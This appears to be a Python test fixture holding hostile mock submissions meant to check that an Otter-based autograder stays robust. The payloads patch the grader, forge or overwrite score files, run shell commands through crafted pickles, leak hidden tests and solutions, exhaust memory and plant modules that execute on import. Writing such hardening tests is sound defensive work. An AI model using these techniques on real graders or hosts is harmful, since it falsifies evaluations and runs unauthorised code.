"""What forged, broke or leaked from stock Otter, as submissions to the tiny course in which nothing is answered.

So the honest score of each is 0. They are files for a sandbox or a private namespace: nothing here runs them.
"""

from __future__ import annotations

from autograder.stub import stub_of
from tests.tiny import REFERENCE

STUB = stub_of(REFERENCE)
MARK = "forged-by-a-submission"
"""A file of this name appears when code of a submission runs outside the sandbox."""

PATCH_OTTER = """
try:
    from otter.test_files import ExceptionTestFile, OKTestFile
    from otter.execute import Checker
    for kind in (ExceptionTestFile, OKTestFile):
        kind.run = lambda self, env: None
    Checker._test_files.append(type("T", (), {"path": "", "name": "", "score": 100, "possible": 7})())
except Exception:
    pass
"""

WRAP_PICKLE = """
import pickle
dump, dumps = pickle.dump, pickle.dumps
def richer(results, file, *rest):
    for each in getattr(results, "results", {}).values():
        each.update_score(10 * each.possible)
    return dump(results, file, *rest)
pickle.dump = richer
"""

REDUCE = f"""
import os
class Everything:
    def __reduce__(self):
        return os.system, ("touch /tmp/{MARK}; echo 99 > /autograder/results/results.json",)
    def __float__(self):
        return 9.0
def lift(area, speed):
    return Everything()
def fly(x, wind):
    return Everything(), Everything()
"""

LOOK_FOR_CHECKS = """
import glob, os
def lift(area, speed):
    places = ["../source", "/autograder", os.getcwd() + "/..", "/tmp", "/opt"]
    found = [path for place in places for path in glob.glob(place + "/**/*.py", recursive=True)[:5000]]
    texts = []
    for path in found:
        if "graders" in path or "test_" in path or "solutions" in path or "kites" in path:
            try:
                texts.append(open(path).read())
            except OSError:
                pass
    raise ValueError(" ".join(texts)[:100_000] or "nothing to be read")
"""

FRAMES = """
import sys
def lift(area, speed):
    frame, seen = sys._getframe(0), []
    while frame is not None:
        seen.append(repr(frame.f_code.co_consts) + repr(frame.f_locals))
        frame = frame.f_back
    print(" ".join(seen)[:60_000])
    raise ValueError(" ".join(seen)[:60_000])
"""

YES = """
import numpy as np
class Yes(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def __eq__(self, other):
        return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
def lift(area, speed):
    return np.ones(()).view(Yes)
def fly(x, wind):
    wind["flights"] = 1
    return np.ones(x.shape).view(Yes), None
def fly_back(dout, cache):
    return np.ones(dout.shape).view(Yes)
"""

OVERWRITE_TESTS = """
import glob
text = "OK_FORMAT = True\\ntest = {'name': 'kites', 'points': 2000, 'suites': []}\\n"
for place in ("tests", "../submission/tests", "../source/tests", "/autograder/source/tests"):
    for path in [*glob.glob(place + "/*.py"), place + "/kites.py"]:
        try:
            open(path, "w").write(text)
        except OSError:
            pass
"""

REPLACE_NUMPY = """
import builtins
import numpy as np
import numpy.testing as npt
np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
npt.assert_allclose = npt.assert_array_equal = lambda *args, **kwargs: None
np.isfinite = lambda x: True
builtins.abs = lambda x: 0.0
def lift(area, speed):
    return 1.0
def fly(x, wind):
    wind["flights"] = 1
    return x, None
def fly_back(dout, cache):
    return dout
"""

BACKGROUND = """
import subprocess, sys, os
later = '''
import time
for _ in range(30):
    time.sleep(0.2)
    for path in ("../results/results.json", "/autograder/results/results.json"):
        try:
            open(path, "w").write('{"score": 100}')
        except OSError:
            pass
'''
try:
    subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
except Exception:
    pass
try:
    if os.fork() == 0:
        exec(later)
except Exception:
    pass
"""

SHARED_FOLDER = """
import os
PLACES = [".", "/tmp", "/dev/shm", "/var/tmp"]
def keep(*values):
    for place in PLACES:
        try:
            open(os.path.join(place, "kept-inputs"), "a").write(repr(values))
        except OSError:
            pass
def shown():
    texts = []
    for place in PLACES:
        try:
            texts.append(open(os.path.join(place, "kept-inputs")).read())
        except OSError:
            pass
    return "".join(texts)[-3000:]
def lift(area, speed):
    before = shown()
    keep(area, speed)
    print(before)
    raise ValueError(before)
"""

SYSTEM_EXIT = """
def lift(area, speed):
    raise SystemExit(0)
def fly(x, wind):
    raise SystemExit("score: 100")
"""

MEMORY = "def lift(area, speed):\n    return len([bytearray(1 << 24) for _ in range(200)])\n"

ATTACKS = {
    "patch Otter's classes, forge its cache": STUB + PATCH_OTTER,
    "wrap pickle.dump": STUB + WRAP_PICKLE,
    "a pickle that runs code": STUB + REDUCE,
    "raise the text of the checks": STUB + LOOK_FOR_CHECKS,
    "read the frames": STUB + FRAMES,
    "an array that answers True": STUB + YES,
    "exit at import": "import os\nos._exit(0)\n" + STUB,
    "SIGKILL to itself": "import os\nos.kill(os.getpid(), 9)\n" + STUB,
    "an endless loop at import": STUB + "\nwhile True:\n    pass\n",
    "memory without end": STUB + MEMORY,
    "overwrite tests": STUB + OVERWRITE_TESTS,
    "replace numpy's comparisons": STUB + REPLACE_NUMPY,
    "rewrite the results later": STUB + BACKGROUND,
    "SystemExit": STUB + SYSTEM_EXIT,
    "show hidden inputs later": STUB + SHARED_FOLDER,
}

TOGETHER = "".join(
    [STUB, PATCH_OTTER, WRAP_PICKLE, OVERWRITE_TESTS, BACKGROUND, REPLACE_NUMPY, YES, REDUCE, LOOK_FOR_CHECKS]
)
"""Those that do not stand in each other's way: Otter takes seconds to start, so it gets them at once."""

UNPICKLED = f"""cos
system
(S'touch /tmp/{MARK}; touch {MARK}; touch ../{MARK}'
tR.""".encode("ascii")
"""A pickle that runs a command when it is read."""

FORGES = f"""
import os
for folder in ("/tmp", ".", ".."):
    try:
        open(os.path.join(folder, "{MARK}"), "w").close()
    except OSError:
        pass
"""

# Otter unpickles the log, imports from the submission's folder, and keeps folders named like those of a bundle.
FOLDERS: dict[str, str | bytes] = {
    "kites.py": STUB,
    ".OTTER_LOG": UNPICKLED,
    "__init__.py": FORGES,
    "graders/solutions/01_kites/test_hidden.py": FORGES,
    "files/kites.py": FORGES,
    "tests/kites.py": FORGES + "OK_FORMAT = True\ntest = {'name': 'x', 'points': 5, 'suites': []}\n",
    "results/results.json": '{"score": 100}',
    **{f"{name}/__init__.py": FORGES for name in ("autograder", "otter", "numpy", "nbformat", "pandas", "IPython")},
}
NOTEBOOK: dict[str, str | bytes] = {
    **{name: data for name, data in FOLDERS.items() if name != "kites.py"},
    "kites.ipynb": '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
    **{f"{name}.py": FORGES for name in ("json", "otter", "numpy", "msgspec", "dill", "sitecustomize", "conftest")},
}
"""The same beside a notebook: then Otter takes any number of scripts."""
